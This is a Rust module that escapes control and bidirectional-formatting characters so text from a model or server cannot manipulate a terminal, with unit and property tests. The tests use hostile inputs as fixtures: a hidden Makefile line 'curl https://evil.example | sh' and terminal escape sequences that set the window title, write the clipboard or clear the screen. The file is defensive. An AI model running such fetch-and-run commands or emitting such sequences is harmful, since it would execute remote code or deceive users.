//! Text from a model or a server made safe for a terminal: every control character other
//! than newline and tab (C0, DEL, C1) and every bidirectional-formatting character (which
//! can reorder what a line appears to say, CVE-2021-42574 "Trojan Source") is replaced by a
//! visible escape such as `\x1b` or `\u{202e}`. Escape sequences thus show as text instead
//! of moving the cursor, clearing a line, setting the title or writing the clipboard.
//!
//! Each character is judged alone, so a stream can be escaped delta by delta in one pass:
//! an escape sequence split across two deltas is as harmless as a whole one.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether `c` must not reach a terminal as is.
pub fn is_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c)
}

/// Marks that change text direction or isolate a run (Unicode bidi controls, UAX #9).
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// `text` with every unsafe character shown as an escape; borrowed when nothing changes.
pub fn escape(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        push_escaped(&mut out, c);
    }
    Cow::Owned(out)
}

/// `text` on one line: as `escape`, and newlines and tabs shown as `\n` and `\t` too (table
/// cells, error lines).
pub fn escape_line(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| c.is_control() || is_unsafe(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c => push_escaped(&mut out, c),
        }
    }
    Cow::Owned(out)
}

fn push_escaped(out: &mut String, c: char) {
    if !is_unsafe(c) {
        out.push(c);
    } else if (c as u32) < 0x80 {
        let _ = write!(out, "\\x{:02x}", c as u32);
    } else {
        let _ = write!(out, "\\u{{{:x}}}", c as u32);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_hidden_makefile_line_shows_its_escape() {
        let line = "\tcurl https://evil.example | sh\x1b[2K\r\techo building";
        assert_eq!(
            escape(line),
            "\tcurl https://evil.example | sh\\x1b[2K\\x0d\techo building"
        );
    }

    #[test]
    fn title_clipboard_c1_and_bidi_are_escaped() {
        assert_eq!(
            escape("\x1b]0;owned\x07 \x1b]52;c;ZWNobw==\x07"),
            "\\x1b]0;owned\\x07 \\x1b]52;c;ZWNobw==\\x07"
        );
        assert_eq!(escape("a\u{9b}2J\u{7f}"), "a\\u{9b}2J\\x7f");
        assert_eq!(
            escape("if admin \u{202e} \u{2066}x\u{2069}"),
            "if admin \\u{202e} \\u{2066}x\\u{2069}"
        );
    }

    #[test]
    fn ordinary_text_is_borrowed_untouched() {
        let text = "fn main() {\n\tprintln!(\"héllo — 世界 🦀\");\n}";
        assert!(matches!(escape(text), Cow::Borrowed(t) if t == text));
        assert_eq!(escape_line("a\nb\tc"), "a\\nb\\tc");
    }

    proptest! {
        #[test]
        fn nothing_unsafe_survives(text in "\\PC*|[\\x00-\\x1f\\x7f-\\u{9f}\\u{202a}-\\u{202e}a ]*") {
            let escaped = escape(&text);
            prop_assert!(!escaped.chars().any(is_unsafe));
            let pieces: String = text.chars().map(|c| escape(&c.to_string()).into_owned()).collect();
            prop_assert_eq!(pieces, escaped.into_owned(), "escaping piecewise changes nothing");
        }
    }
}
